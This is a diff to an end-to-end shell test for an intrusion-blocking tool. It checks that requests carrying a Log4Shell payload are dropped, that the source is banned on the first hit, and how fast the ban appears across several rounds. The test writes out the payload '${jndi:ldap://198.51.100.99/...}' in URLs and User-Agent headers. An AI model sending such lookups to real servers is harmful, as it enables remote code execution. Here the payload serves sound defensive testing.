@@ -10,7 +10,7 @@ set -u
 cd "$(dirname "$0")/../.."
 LAB_ID=$$
 source scripts/lab.sh
-POLICY_SRC=tests/e2e/policies/reactions.lua
+POLICY_SRC=${POLICY_SRC:-tests/e2e/policies/reactions.lua}   # overridable: run it against another policy
 LATENCY_TARGET_MS=100      # the issue's target: reported, not asserted (timing on a shared 2-core box)
 LATENCY_LIMIT_MS=1000      # asserted: 10x the target, so only a broken path fails
 pass=0 fail=0 skip=0
@@ -120,31 +120,44 @@ for src in 192.0.2.67 2001:db8:0:66::67; do
 done
 
 # ---- signature with action ban: first hit bans; latency from the match event to the ban in the map ------
+# banwatch subscribes to events, then polls the ban list over the control socket in a tight loop: the
+# latency is (first poll that shows the ban) - (the match event's ts_ns), both CLOCK_MONOTONIC, so it
+# over-estimates by at most one poll gap. LAT_ROUNDS rounds per family (the ban is deleted in between).
+LAT_ROUNDS=${LAT_ROUNDS:-5}
 for src in 192.0.2.66 2001:db8::66; do
-	labtool banwatch "$src" 10 >"$LAB_DIR/banwatch.out" 2>&1 &
-	bw=$!
-	for i in $(seq 1 50); do grep -q READY "$LAB_DIR/banwatch.out" && break; sleep 0.1; done
-	attack "$src" "$(url_of "$src" '/?q=${jndi:ldap://198.51.100.99/a}')" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
-	rc=$?
-	wait "$bw"
-	res=$(sed -n 's/^RESULT //p' "$LAB_DIR/banwatch.out")
-	[ "$rc" -ne 0 ] && ! http_log_has 'jndi' && ok "[$src] \${jndi: request dropped (curl exit $rc)" ||
-		notok "[$src] \${jndi: request dropped (curl exit $rc)"
-	lat=$("$LAB_PY" -c 'import json,sys; r=json.loads(sys.argv[1] or "{}"); print(r.get("latency_ms",""))' "$res" 2>/dev/null)
-	note "[$src] banwatch: $res"
-	if [ -n "$lat" ]; then
-		gap=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1])["poll_gap_ms"])' "$res")
-		awk -v l="$lat" -v m="$LATENCY_LIMIT_MS" 'BEGIN { exit !(l >= 0 && l < m) }' &&
-			ok "[$src] match event -> ban in map: ${lat} ms (target ${LATENCY_TARGET_MS} ms, poll resolution ${gap} ms)" ||
-			notok "[$src] match event -> ban in map: ${lat} ms (limit ${LATENCY_LIMIT_MS} ms)"
-		awk -v l="$lat" -v m="$LATENCY_TARGET_MS" 'BEGIN { exit !(l < m) }' || note "WARN latency ${lat} ms over the ${LATENCY_TARGET_MS} ms target"
-		echo "LATENCY $src ${lat}ms"
+	lats=()
+	for round in $(seq 1 "$LAT_ROUNDS"); do
+		labtool banwatch "$src" 10 >"$LAB_DIR/banwatch.out" 2>&1 &
+		bw=$!
+		for i in $(seq 1 50); do grep -q READY "$LAB_DIR/banwatch.out" && break; sleep 0.1; done
+		attack "$src" "$(url_of "$src" "/?q=\${jndi:ldap://198.51.100.99/$round}")" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
+		rc=$?
+		wait "$bw"
+		res=$(sed -n 's/^RESULT //p' "$LAB_DIR/banwatch.out")
+		lat=$("$LAB_PY" -c 'import json,sys; r=json.loads(sys.argv[1] or "{}"); print(r.get("latency_ms",""))' "$res" 2>/dev/null)
+		gap=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("poll_gap_ms","?"))' "$res" 2>/dev/null)
+		note "[$src] round $round: latency ${lat:-?} ms (poll gap ${gap} ms), curl exit $rc"
+		[ -n "$lat" ] && lats+=("$lat")
+		if [ "$round" = 1 ]; then
+			note "[$src] banwatch: $res"
+			[ "$rc" -ne 0 ] && ! http_log_has 'jndi' && ok "[$src] \${jndi: request dropped before the server (curl exit $rc)" ||
+				notok "[$src] \${jndi: request dropped (curl exit $rc)"
+			reason=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("ban",{}).get("reason",""))' "$res" 2>/dev/null)
+			[[ $reason == *"signature log4shell"* ]] && ok "[$src] first hit banned the source, reason: $reason" ||
+				notok "[$src] first hit bans the source with a reason naming the signature (reason: $reason)"
+		fi
+		[ "$round" -lt "$LAT_ROUNDS" ] && ctl ban del "$src" >/dev/null 2>&1
+	done
+	if [ "${#lats[@]}" -eq "$LAT_ROUNDS" ]; then
+		read -r lmin lmed lmax < <(printf '%s\n' "${lats[@]}" | sort -g | awk '{ v[NR] = $1 } END { print v[1], v[int((NR + 1) / 2)], v[NR] }')
+		echo "LATENCY $src match event -> ban in map: min ${lmin} ms, median ${lmed} ms, max ${lmax} ms over $LAT_ROUNDS rounds (target ${LATENCY_TARGET_MS} ms)"
+		awk -v l="$lmax" -v m="$LATENCY_LIMIT_MS" 'BEGIN { exit !(l >= 0 && l < m) }' &&
+			ok "[$src] match event -> ban in map: median ${lmed} ms, max ${lmax} ms (target ${LATENCY_TARGET_MS} ms, asserted < ${LATENCY_LIMIT_MS} ms)" ||
+			notok "[$src] match event -> ban in map: max ${lmax} ms (limit ${LATENCY_LIMIT_MS} ms)"
+		awk -v l="$lmax" -v m="$LATENCY_TARGET_MS" 'BEGIN { exit !(l < m) }' || note "WARN latency max ${lmax} ms over the ${LATENCY_TARGET_MS} ms target"
 	else
-		notok "[$src] match event and ban both observed (see banwatch line above)"
+		notok "[$src] match event and ban observed in every round (${#lats[@]} of $LAT_ROUNDS)"
 	fi
-	reason=$("$LAB_PY" -c 'import json,sys; print(json.loads(sys.argv[1] or "{}").get("ban",{}).get("reason",""))' "$res" 2>/dev/null)
-	[[ $reason == *"signature log4shell"* ]] && ok "[$src] ban reason names the signature: $reason" ||
-		notok "[$src] ban reason names the signature (reason: $reason)"
 done
 
 # ---- port scan: nmap -sS, banned before it finishes, later probes dropped ---------------------------------
